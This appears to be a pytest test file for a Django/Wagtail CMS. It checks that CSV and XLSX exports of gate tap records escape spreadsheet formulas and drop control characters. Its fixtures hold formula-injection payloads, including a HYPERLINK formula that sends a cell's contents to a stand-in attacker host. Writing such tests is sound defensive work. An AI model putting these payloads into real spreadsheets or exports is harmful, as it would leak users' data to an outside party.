"""Exports open in a spreadsheet as text: no formula a gate or visitor wrote ever runs."""

import csv
import io

import openpyxl
import pytest
from django.utils import timezone
from wagtail.snippets.models import get_snippet_models

from heritage_cms.cards.models import Gate, Tap
from heritage_cms.core.money import VND
from heritage_cms.core.spreadsheet import SafeExportIndexView, safe_cell
from heritage_cms.sites.factories import SiteFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Chi tiết")'


@pytest.fixture
def hostile_taps(card):
    gate = Gate.objects.create(
        name="Ngọ Môn", site=SiteFactory(code="dai-noi"), fare=VND(0), token_hash="g"
    )
    now = timezone.now()
    for sequence, (number, reason) in enumerate(
        [("=1+1", HYPERLINK), ("@SUM(1)", "bị chặn\x07\x1b"), ("+84", "-2+3"), ("\t=1", "ok")],
        start=1,
    ):
        Tap.objects.create(
            gate=gate,
            sequence=sequence,
            card_number=number,
            occurred_at=now,
            decision="denied",
            reason=reason,
        )


def test_safe_cell_neutralises_formulas_and_drops_illegal_characters():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("Lăng Tự Đức\x0b") == "Lăng Tự Đức"
    assert safe_cell("ngày 1-2") == "ngày 1-2"
    assert safe_cell(-5000) == -5000 and safe_cell(None) is None


def test_the_tap_csv_export_writes_no_formula(client, finance_user, hostile_taps):
    client.force_login(finance_user)
    response = client.get("/admin/snippets/cards/tap/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert "'=1+1" in cells and "'" + HYPERLINK in cells and "'@SUM(1)" in cells
    assert "bị chặn" in cells and "'-2+3" in cells and "'+84" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert not any(ch in body for ch in "\x00\x07\x1b")


def test_the_tap_xlsx_export_survives_control_characters(client, finance_user, hostile_taps):
    client.force_login(finance_user)
    response = client.get("/admin/snippets/cards/tap/?export=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "bị chặn" in cells and "'" + HYPERLINK in cells and "'=1+1" in cells
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_every_exporting_snippet_listing_is_safe():
    exporting = [
        model
        for model in get_snippet_models()
        if isinstance(model.snippet_viewset.list_export, (list, tuple))
        and model.snippet_viewset.list_export
    ]
    assert exporting, "some listing exports"
    for model in exporting:
        assert issubclass(model.snippet_viewset.index_view_class, SafeExportIndexView), model


def test_every_exporting_admin_listing_and_finance_report_is_safe(client, finance_user):
    from wagtail.admin.viewsets import viewsets
    from wagtail.admin.viewsets.model import ModelViewSet

    from heritage_cms.core.spreadsheet import SafeExportMixin
    from heritage_cms.finance.views import ReconciliationView, RevenueView

    client.force_login(finance_user)
    client.get("/admin/")  # the admin's URLs, and so its viewsets, are loaded
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(viewset, ModelViewSet)
        and isinstance(viewset.list_export, (list, tuple))
        and viewset.list_export
    ]
    assert {viewset.name for viewset in exporting} >= {"finance_payments", "finance_refunds"}
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeExportMixin), viewset
    assert issubclass(RevenueView, SafeExportMixin) and issubclass(
        ReconciliationView, SafeExportMixin
    )
